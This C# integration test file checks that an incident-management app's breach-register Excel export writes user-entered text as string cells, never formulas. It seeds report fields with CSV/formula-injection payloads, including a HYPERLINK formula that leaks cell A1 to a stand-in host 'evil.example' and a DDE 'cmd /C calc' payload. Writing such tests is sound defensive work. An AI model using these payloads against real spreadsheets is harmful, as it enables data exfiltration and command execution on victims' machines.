using System.IO.Compression;
using System.Net;
using System.Xml.Linq;
using Incidents.Infrastructure.Startup;
using Incidents.IntegrationTests.Support;

namespace Incidents.IntegrationTests;

/// <summary>The breach register as an Excel workbook (<c>format=xlsx</c>): the CSV's columns, every cell a string cell,
/// so a formula payload is text that is never run.</summary>
public sealed class RegisterXlsxTests : IAsyncLifetime
{
    private static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private IncidentsApp _app = null!;

    public Task InitializeAsync()
    {
        _app = new IncidentsApp(smtp: null);
        return Task.CompletedTask;
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    [Fact]
    public async Task A_formula_payload_is_a_string_cell_in_the_workbook_and_never_a_formula()
    {
        var staff = await _app.SignInAsync("staff@merseyvale.test");
        const string payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var reported = await staff.ReportAsync(new
        {
            kind = "ConfidentialityBreach",
            counterpartyOrganisationId = DemoData.SilId,
            discoveredAt = DateTimeOffset.UtcNow.AddHours(-1),
            summary = payload,
            description = "+cmd|' /C calc'!A0",
            dataCategories = new[] { "Names" },
            approximateDataSubjects = 3,
            containmentActions = "@SUM(1+1)",
        });
        var dpo = await _app.SignInAsync("dpo@sil.test");

        var response = await dpo.GetAsync(new Uri("/api/register/export?format=xlsx", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.EndsWith(".xlsx", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName?.Trim('"'), StringComparison.Ordinal);

        using var zip = new ZipArchive(new MemoryStream(await response.Content.ReadAsByteArrayAsync()), ZipArchiveMode.Read);
        var workbook = XDocument.Load(zip.GetEntry("xl/workbook.xml")!.Open());
        Assert.Equal("Breach register", workbook.Descendants(Main + "sheet").Single().Attribute("name")?.Value);
        var sheet = XDocument.Load(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var shared = zip.GetEntry("xl/sharedStrings.xml") is { } s
            ? XDocument.Load(s.Open()).Descendants(Main + "si").Select(si => string.Concat(si.Descendants(Main + "t").Select(t => t.Value))).ToList()
            : [];

        Assert.Empty(sheet.Descendants(Main + "f"));
        var rows = sheet.Descendants(Main + "row").Select(r => r.Elements(Main + "c").ToList()).ToList();
        var headers = rows[0].Select(c => Text(c, shared)).ToList();
        Assert.Equal("Reference", headers[0]);
        Assert.Contains("Facts: summary", headers);
        var row = rows.Skip(1).Single(r => Text(r[0], shared) == reported.Reference);
        var summary = row[headers.IndexOf("Facts: summary")];
        Assert.Contains(summary.Attribute("t")?.Value, new[] { "inlineStr", "s" });
        Assert.Equal(payload, Text(summary, shared));
        Assert.Equal("+cmd|' /C calc'!A0", Text(row[headers.IndexOf("Facts: description")], shared));
    }

    [Fact]
    public async Task An_unknown_format_is_a_field_error()
    {
        var dpo = await _app.SignInAsync("dpo@sil.test");
        var response = await dpo.GetAsync(new Uri("/api/register/export?format=ods", UriKind.Relative));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("csv or xlsx", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    /// <summary>A string cell's text: inline, or from the shared strings.</summary>
    private static string Text(XElement cell, IReadOnlyList<string> shared) => cell.Attribute("t")?.Value switch
    {
        "inlineStr" => string.Concat(cell.Descendants(Main + "t").Select(t => t.Value)),
        "s" => shared[int.Parse(cell.Element(Main + "v")!.Value, System.Globalization.CultureInfo.InvariantCulture)],
        _ => cell.Element(Main + "v")?.Value ?? string.Empty,
    };
}
